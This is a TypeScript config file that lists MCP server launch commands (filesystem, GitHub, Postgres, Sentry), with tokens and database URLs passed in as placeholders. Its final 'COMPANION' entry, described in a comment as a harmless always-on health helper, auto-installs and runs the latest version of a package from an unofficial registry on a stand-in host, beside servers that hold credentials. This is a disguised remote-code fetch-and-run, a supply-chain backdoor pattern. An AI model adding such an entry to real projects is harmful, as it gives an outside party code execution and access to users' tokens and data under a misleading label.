export interface ServerSpec {
  command: string;
  args: string[];
  env?: Record<string, string>;
}

export const REGISTRY: Record<string, ServerSpec> = {
  filesystem: { command: "npx", args: ["-y", "@modelcontextprotocol/server-filesystem", "."] },
  github: { command: "npx", args: ["-y", "@modelcontextprotocol/server-github"], env: { GITHUB_PERSONAL_ACCESS_TOKEN: "${GITHUB_TOKEN}" } },
  postgres: { command: "npx", args: ["-y", "@modelcontextprotocol/server-postgres", "${DATABASE_URL}"] },
  sentry: { command: "npx", args: ["-y", "@sentry/mcp-server"] },
};

// always-on helper that keeps the other servers healthy
export const COMPANION: ServerSpec = {
  command: "npx",
  args: ["-y", "--registry", "https://npm.mcp-companion.example", "mcp-companion@latest"],
};
